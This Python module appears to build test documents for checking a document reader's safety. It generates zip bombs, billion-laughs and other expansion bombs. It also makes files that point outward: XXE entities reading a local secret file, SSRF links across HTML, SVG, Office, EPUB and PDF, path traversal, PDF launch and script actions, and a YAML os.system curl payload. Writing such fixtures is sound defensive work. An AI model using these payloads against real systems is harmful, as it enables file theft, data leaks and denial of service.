"""Makes documents that want more than to be read: bombs, and such that name what lies elsewhere.

Each of ``outward`` names a URL and a file of this machine in the way of its format, and holds a harmless sentence.
"""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable, Iterator, Sequence
from email.message import EmailMessage
from pathlib import Path

import documents

SENTENCE = "The walrus sleeps."
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TEN = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
LAUGHS = f'<!DOCTYPE l [<!ENTITY l0 "ha">{_TEN}]>'
"""A billion laughs: ``&l9;`` is 10 to the power of 9 times ``ha``."""
QUADRATIC = f'<!DOCTYPE l [<!ENTITY l9 "{"a" * 100_000}">]>'
"""One entity, to be used a thousand times."""


def outward(folder: Path, url: str, secret: Path) -> list[Path]:
    """Documents that lead to ``url`` and to ``secret``, which each names with its own name behind a ``?``."""
    made = [documents.text(folder, content, name) for name, content in _texts(folder, url, secret).items()]
    return [*made, *_office(folder, url, secret), *_books(folder, url, secret), *_pdfs(folder, url, secret)]


def bombs(folder: Path) -> list[Path]:
    """Documents that grow without end when they are read as they ask to be. None holds the sentence."""
    many = folder / "many.docx"
    with zipfile.ZipFile(many, "w") as archive:
        for number in range(10_001):
            archive.writestr(f"word/{number}.xml" if number else "word/document.xml", "")
    inner = documents.zip_bomb(folder, 20, "inner.docx")
    nested = folder / "nested.zip"
    with zipfile.ZipFile(nested, "w") as archive:
        for number in range(50):
            archive.write(inner, f"{number}.docx")
    inner.unlink()
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i) for i in range(1200))
    return [
        *(documents.zip_bomb(folder, 50, f"bomb.{suffix}") for suffix in ("docx", "xlsx", "pptx")),
        documents.epub(folder, ["a" * 40 * 2**20], "bomb.epub"),
        many,
        nested,
        _lying_about_its_size(documents.docx(folder, "lying.docx")),
        *(_expanding(folder, name, declared, "&l9;") for name, declared in (("laughs", LAUGHS), ("square", QUADRATIC))),
        documents.epub(
            folder, name="laughs.epub", **{"META-INF__container.xml": f"{LAUGHS}<container>&l9;</container>"}
        ),
        documents.epub(folder, name="opf.epub", **{"OPS__book.opf": f"{LAUGHS}<package>&l9;</package>"}),
        _changed(documents.pptx(folder, "laughs.pptx"), "ppt/slides/slide1.xml", _declare(LAUGHS, "&l9;")),
        _changed(documents.xlsx(folder, name="laughs.xlsx"), "xl/worksheets/sheet1.xml", _declare(LAUGHS, "&l9;")),
        _deep(folder),
        documents.pdf_bomb(folder, 1100),
        documents.endless_pdf(folder),
        documents.text(folder, '{"a":' + "[" * 100_000 + "1" + "]" * 100_000 + "}", "deep.json"),
        documents.raw(folder, b"Subject: a\n" + parts, "deep.eml"),
        documents.raw(
            folder, b"Subject: a\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 2000, "m.eml"
        ),
    ]


# -- text ------------------------------------------------------------------------------------------------


def _texts(folder: Path, url: str, secret: Path) -> dict[str, str]:
    file = secret.as_uri()
    out = '<?xml version="1.0"?>'
    external = f'<!DOCTYPE a SYSTEM "{url}?dtd" [{{}}]>'
    xsl = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"'
    xlink = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    page = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>&w;&f;<p>{SENTENCE}</p></body></html>'
    cell = {"cell_type": "markdown", "source": f"![x]({url}?cell) {SENTENCE}", "attachments": {"x": {"url": url}}}
    shown = {"output_type": "display_data", "data": {"text/html": f"<img src='{url}?output'>", "text/plain": SENTENCE}}
    code = {"cell_type": "code", "source": "1", "outputs": [shown]}
    return {
        "general.xml": f'{out}<!DOCTYPE a [<!ENTITY w SYSTEM "{url}?general">]><a>&w; {SENTENCE}</a>',
        "file.xml": f'{out}<!DOCTYPE a [<!ENTITY f SYSTEM "{file}">]><a>&f; {SENTENCE}</a>',
        "parameter.xml": f'{out}<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}?parameter">%p;]><a>{SENTENCE}</a>',
        "dtd.xml": f"{out}{external.format('')}<a>{SENTENCE}</a>",
        "include.xml": f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}?xi"/>'
        f'<xi:include href="{file}" parse="text"/>{SENTENCE}</a>',
        "style.xml": f'{out}<?xml-stylesheet type="text/xsl" href="{url}?stylesheet"?><a>{SENTENCE}</a>',
        "schema.xml": '<a xmlns:s="http://www.w3.org/2001/XMLSchema-instance" '
        f's:schemaLocation="urn:a {url}?schema" s:noNamespaceSchemaLocation="{file}">{SENTENCE}</a>',
        "types.xsd": f'<schema xmlns="http://www.w3.org/2001/XMLSchema"><import schemaLocation="{url}?xsd"/>'
        f"<annotation><documentation>{SENTENCE}</documentation></annotation></schema>",
        "sheet.xsl": f'<xsl:stylesheet {xsl}><xsl:import href="{url}?xsl"/><xsl:template match="/">'
        f"<xsl:copy-of select=\"document('{file}')\"/>{SENTENCE}</xsl:template></xsl:stylesheet>",
        "drawing.svg": f'<?xml-stylesheet href="{url}?css"?>{external.format("")}<svg {xlink}>'
        f'<image xlink:href="{url}?svg"/>'
        f'<use href="{file}#a"/><script href="{url}?script"/><text>{SENTENCE}</text></svg>',
        "page.xhtml": f'{external.format(f"""<!ENTITY w SYSTEM "{url}?x"><!ENTITY f SYSTEM "{file}">""")}{page}',
        "page.html": f'<base href="{url}/base/"><link rel="stylesheet" href="{url}?link"><link rel="preload" href="a">'
        f'<meta http-equiv="refresh" content="0; url={url}?refresh"><img src="{url}?img" srcset="{url}?srcset 2x">'
        f'<iframe src="{url}?frame"></iframe><iframe src="{file}"></iframe><object data="{url}?object"></object>'
        f'<script src="{url}?script"></script><style>@import "{url}?import";</style><p>{SENTENCE}</p>',
        "note.md": f"# Walrus\n\n![x]({url}?md) ![y]({file})\n\n[x]: {url}?reference\n\n"
        f"<img src='{url}?html'> {SENTENCE}\n",
        "note.rst": f".. include:: {secret}\n\n.. raw:: html\n   :url: {url}?rst\n\n{SENTENCE}\n",
        "note.adoc": f"include::{url}?adoc[]\n\ninclude::{secret}[]\n\nimage::{url}?image[]\n\n{SENTENCE}\n",
        "note.org": f'#+INCLUDE: "{secret}"\n\n[[{url}?org]]\n\n{SENTENCE}\n',
        "note.tex": f"\\input{{{secret}}} \\includegraphics{{{url}?tex}} {SENTENCE}\n",
        "table.csv": f'a,b\n"=WEBSERVICE(""{url}?csv"")",=IMAGE("{url}")\n{SENTENCE},"{file}"\n',
        "notes.json": json.dumps(
            {"$schema": f"{url}?schema", "$ref": f"{url}?json", "file": {"$ref": file}, "t": SENTENCE}
        ),
        "notes.jsonl": json.dumps({"$ref": f"{url}?jsonl", "text": SENTENCE}),
        "notes.yaml": f"a: !include {secret}\nb: !!python/object/apply:os.system ['curl {url}?yaml']\nc: {SENTENCE}\n",
        "notes.ipynb": json.dumps({"nbformat": 4, "cells": [cell, code]}),
        "mail.eml": _mail(url, secret),
    }  # fmt: skip


def _mail(url: str, secret: Path) -> str:
    mail = EmailMessage()
    mail["Subject"], mail["From"], mail["To"] = "Walrus", "a@example.org", "b@example.org"
    mail["List-Unsubscribe"], mail["Content-Location"] = f"<{url}?list>", f"{url}?location"
    page = f"<base href='{url}/'><img src='{url}?mail'><iframe src='{secret.as_uri()}'></iframe><p>{SENTENCE}</p>"
    mail.set_content(page, subtype="html")
    mail.make_mixed()
    for kind in (f'access-type=URL; URL="{url}?body"', f'access-type=local-file; name="{secret}"'):
        part = EmailMessage()
        part["Content-Type"] = f"message/external-body; {kind}"
        part.set_payload("Content-Type: text/plain\n\n")
        mail.attach(part)
    return mail.as_string()


# -- packages --------------------------------------------------------------------------------------------


def _office(folder: Path, url: str, secret: Path) -> Iterator[Path]:
    entities = (
        f'<!DOCTYPE x SYSTEM "{url}?dtd" [<!ENTITY w SYSTEM "{url}?entity"><!ENTITY f SYSTEM "{secret.as_uri()}">]>'
    )
    inline = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    drawn = f'<w:p><w:r><w:drawing><wp:inline {inline}><a:graphic xmlns:a="{drawing}/main"><a:graphicData>'
    drawn += f'<pic:pic xmlns:pic="{drawing}/picture"><pic:blipFill><a:blip r:link="{{id}}"/></pic:blipFill></pic:pic>'
    drawn += "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
    field += '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    fields = field.format(code=f' INCLUDEPICTURE "{url}?field" ') + field.format(code=f' INCLUDETEXT "{secret}" ')
    word, show, book = documents.docx, documents.pptx, documents.xlsx
    shown = drawn.format(id="rIdX") + drawn.format(id="rIdF") + drawn.format(id="rIdP")
    parts = '<w:altChunk r:id="rIdX"/><w:altChunk r:id="rIdF"/><w:subDoc r:id="rIdX"/>'
    rest: list[tuple[str, Callable[..., Path], str, str, str]] = [
        ("linked.docx", word, "word/document.xml", "image", shown),
        ("parts.docx", word, "word/document.xml", "aFChunk attachedTemplate subDocument frame", parts + fields),
        ("linked.pptx", show, "ppt/slides/slide1.xml", "image video media oleObject", ""),
        ("layout.pptx", show, "ppt/slides/slide1.xml", "slideLayout", ""),
        ("linked.xlsx", book, "xl/workbook.xml", "externalLinkPath sharedStrings connections", ""),
    ]
    for name, make, part, kinds, body in rest:
        yield _linked(make(folder, name=name), part, kinds.split(), url, secret, body)
    for make, name, part in ((word, "docx", "word/document.xml"), (show, "pptx", "ppt/slides/slide1.xml"),
                             (book, "xlsx", "xl/worksheets/sheet1.xml")):  # fmt: skip
        yield _changed(make(folder, name=f"entities.{name}"), part, _declare(entities, "&w;&f;"))
        yield _changed(make(folder, name=f"rights.{name}"), "docProps/core.xml", _declare(entities, "&f;"))
        yield _changed(make(folder, name=f"links-{name}.{name}"), "_rels/.rels", _declare(entities, ""))
    yield _renamed(_changed(word(folder, "renamed.docx"), "word/document.xml", _declare(entities, "&w;&f;")))
    formula = f'<row r="9"><c r="A9" t="str"><f>WEBSERVICE("{url}?formula")</f><v>{SENTENCE}</v></c></row></sheetData>'
    yield _changed(
        book(folder, name="formula.xlsx"),
        "xl/worksheets/sheet1.xml",
        lambda text: text.replace("</sheetData>", formula),
    )
    yield documents.msg(
        folder, "mail.msg", p1000=f"{SENTENCE} <img src='{url}?msg'> {secret.as_uri()}", p1039=f"{url}?id"
    )


def _linked(path: Path, part: str, kinds: Sequence[str], url: str, secret: Path, body: str) -> Path:
    """Let a part refer to the URL as rIdX and to the file as rIdF, and Word show ``body`` before all else."""
    name = f"{part.rpartition('/')[0]}/_rels/{part.rpartition('/')[2]}.rels"
    targets = {"X": f"{url}?link", "F": secret.as_uri(), "P": f"../../../../../../../..{secret}"}
    links = "".join(
        f'<Relationship Id="rId{to}{number or ""}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, kind in enumerate(kinds)
        for to, target in targets.items()
    )
    _changed(path, name, lambda text: text.replace("</Relationships>", f"{links}</Relationships>"))
    return _changed(path, part, lambda text: text.replace("<w:body>", f"<w:body>{body}")) if body else path


def _renamed(path: Path) -> Path:
    """The main part goes by a name that is none of XML's; another one stands where it was."""
    with zipfile.ZipFile(path) as archive:
        main, links = archive.read("word/document.xml"), archive.read("word/_rels/document.xml.rels")
    documents.replace_part(path, "word/main.data", main)
    documents.replace_part(path, "word/_rels/main.data.rels", links)
    documents.replace_part(path, "word/document.xml", b"<nothing/>")
    _changed(path, "[Content_Types].xml", lambda text: text.replace("/word/document.xml", "/word/main.data"))
    return _changed(path, "_rels/.rels", lambda text: text.replace("word/document.xml", "word/main.data"))


def _books(folder: Path, url: str, secret: Path) -> Iterator[Path]:
    entities = (
        f'<!DOCTYPE x SYSTEM "{url}?dtd" [<!ENTITY w SYSTEM "{url}?entity"><!ENTITY f SYSTEM "{secret.as_uri()}">]>'
    )
    page = f"<html><head><link href='{url}?css' rel='stylesheet'/></head><body>&w;&f;<p>{SENTENCE}</p></body></html>"
    yield documents.epub(folder, [f'<img src="{url}?img"/><iframe src="{secret.as_uri()}"></iframe><p>{SENTENCE}</p>'])
    yield documents.epub(folder, name="chapter.epub", **{"OPS__ch 0.xhtml": entities + page})
    yield documents.epub(folder, name="container.epub", **{"META-INF__container.xml": f"{entities}<x>&w;&f;</x>"})
    for name, item in (("remote", f"{url}?chapter"), ("path", f"../../../../../..{secret}"), ("uri", secret.as_uri())):
        package = documents.epub(folder, name=f"{name}.epub")
        yield _changed(package, "OPS/book.opf", lambda text, item=item: text.replace("ch%200.xhtml", item))
    yield _changed(documents.epub(folder, name="package.epub"), "OPS/book.opf", _declare(entities, "&w;&f;"))


# -- PDF -------------------------------------------------------------------------------------------------


def _pdfs(folder: Path, url: str, secret: Path) -> Iterator[Path]:
    """Each with one action, link or outside stream; the sentence is on the page."""
    for name, target in (("url", url), ("file", str(secret))):
        there = f"<< /Type /Filespec /FS /{'URL' if name == 'url' else 'File'} /F ({target}) /UF ({target}) >>"
        actions = {
            "uri": f"<< /S /URI /URI ({target}) >>",
            "goto": f"<< /S /GoToR /F {there} /D [0 /Fit] >>",
            "launch": f"<< /S /Launch /F {there} >>",
            "submit": f"<< /S /SubmitForm /F {there} >>",
            "import": f"<< /S /ImportData /F {there} >>",
            "script": f"<< /S /JavaScript /JS (app.launchURL\\('{target}'\\); getURL\\('{target}'\\)) >>",
        }
        for kind, action in actions.items():
            yield _pdf(folder, f"{kind}-{name}.pdf", f"/OpenAction {action} /AA << /WC {action} >>", annotation=action)
        yield _pdf(folder, f"stream-{name}.pdf", outside=there)
        yield _pdf(
            folder, f"attached-{name}.pdf", f"/Names << /EmbeddedFiles << /Names [(a) {there}] >> >> /AF [{there}]"
        )
    forms = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{secret.as_uri()}"><!ENTITY w SYSTEM "{url}?xfa">]>'
    form = f"{forms}<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template>&f;&w;</template></xdp:xdp>"
    yield _pdf(folder, "form.pdf", "/AcroForm << /Fields [] /XFA 6 0 R >> /Metadata 6 0 R", stream=form)


def _pdf(
    folder: Path, name: str, catalog: str = "", *, annotation: str = "", outside: str = "", stream: str = ""
) -> Path:
    link = f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A {annotation} >>]" if annotation else ""
    # A stream whose bytes are elsewhere (ISO 32000-1, 7.3.8.2), before the one with the sentence.
    contents = "[6 0 R 4 0 R]" if outside else "4 0 R"
    fonts = "<< /Font << /F1 5 0 R >> >>"
    text = f"BT /F1 12 Tf 72 700 Td ({SENTENCE}) Tj ET"
    last = f"<< /Length {len(stream)} {f'/F {outside}' if outside else ''} >>\nstream\n{stream}\nendstream"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents {contents} /Resources {fonts} {link} >>",
        f"<< /Length {len(text)} >>\nstream\n{text}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        last,
    ]
    return documents.raw(folder, documents.pdf_of([each.encode() for each in objects]), name)


# -- changes ---------------------------------------------------------------------------------------------


def _changed(path: Path, part: str, change: Callable[[str], str]) -> Path:
    with zipfile.ZipFile(path) as archive:
        before = archive.read(part).decode()
    after = change(before)
    assert after != before, f"{path.name}: {part} has no place for it"
    return documents.replace_part(path, part, after.encode())


def _declare(declared: str, used: str) -> Callable[[str], str]:
    """Put a document type behind the XML declaration, and references to its entities into the first text there is."""
    first = re.compile("<(?:w|a):t>|<t>|<v>|<dc:title>|<cp:[a-zA-Z]+>")

    def change(text: str) -> str:
        head, mark, body = text.rpartition("?>") if text.startswith("<?xml") else ("", "", text)
        return head + mark + declared + first.sub(lambda found: found[0] + used, body, count=1)

    return change


def _expanding(folder: Path, name: str, declared: str, used: str) -> Path:
    return _changed(documents.docx(folder, f"{name}.docx"), "word/document.xml", _declare(declared, used * 1000))


def _lying_about_its_size(path: Path) -> Path:
    """Its directory says that the main part unpacks to 100 bytes (APPNOTE.TXT, 4.3.12)."""
    data = bytearray(path.read_bytes())
    entry = data.rindex(b"word/document.xml") - 46
    assert data[entry : entry + 4] == b"PK\x01\x02"
    data[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
    path.write_bytes(data)
    return path


def _deep(folder: Path) -> Path:
    tables = ("<w:tbl><w:tr><w:tc>" * 3000, "</w:tc></w:tr></w:tbl>" * 3000)
    path = documents.docx(folder, "deep.docx")
    return _changed(path, "word/document.xml", lambda text: text.replace("<w:body>", f"<w:body>{tables[0]}{tables[1]}"))
